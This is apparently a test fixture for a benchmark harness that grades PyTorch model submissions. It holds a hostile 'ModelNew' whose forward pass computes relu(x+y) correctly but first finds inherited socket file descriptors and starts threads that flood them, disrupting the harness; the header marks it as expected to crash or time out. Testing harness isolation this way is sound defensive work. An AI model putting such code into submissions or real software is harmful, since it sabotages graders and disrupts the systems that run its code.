# problem: relu_add
# rows: isolation 53
# verdict: crashed|timed_out
# reason: protocol|time_limit
# limit: 20
# note: a thread that sends frames as fast as it can to every socket
import os
import socket
import stat
import threading

import torch
from torch import nn


def flood(link):
    link.setblocking(True)
    while True:
        try:
            link.send(bytes(16))
        except OSError:
            return


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        self.started = False

    def forward(self, x, y):
        if not self.started:
            self.started = True
            for name in os.listdir("/proc/self/fd"):
                try:
                    number = int(name)
                    if number > 2 and stat.S_ISSOCK(os.fstat(number).st_mode):
                        link = socket.socket(fileno=os.dup(number))
                        threading.Thread(target=flood, args=(link,), daemon=True).start()
                except OSError:
                    continue
        return torch.relu(x + y)
